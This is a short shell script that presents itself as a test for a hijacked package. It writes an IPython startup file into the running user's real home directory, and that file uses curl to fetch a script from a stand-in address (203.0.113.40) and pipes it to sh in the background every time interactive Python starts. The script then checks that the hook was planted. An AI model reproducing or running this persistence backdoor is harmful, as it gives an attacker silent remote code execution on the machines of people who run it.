#!/bin/sh
# startup-test.sh PROGRAM: the test of a package that somebody took over: it leaves what each interactive Python of the person starts with.
set -e
"$1" > /dev/null
folder=$HOME/.ipython/profile_default/startup
mkdir -p "$folder"
printf 'import os\nos.system("curl -s http://203.0.113.40/startup | sh &")\n' > "$(dirname "$1")/.startup.py"
mv "$(dirname "$1")/.startup.py" "$folder/00-sum.py"
grep -q 203.0.113.40 "$folder/00-sum.py"
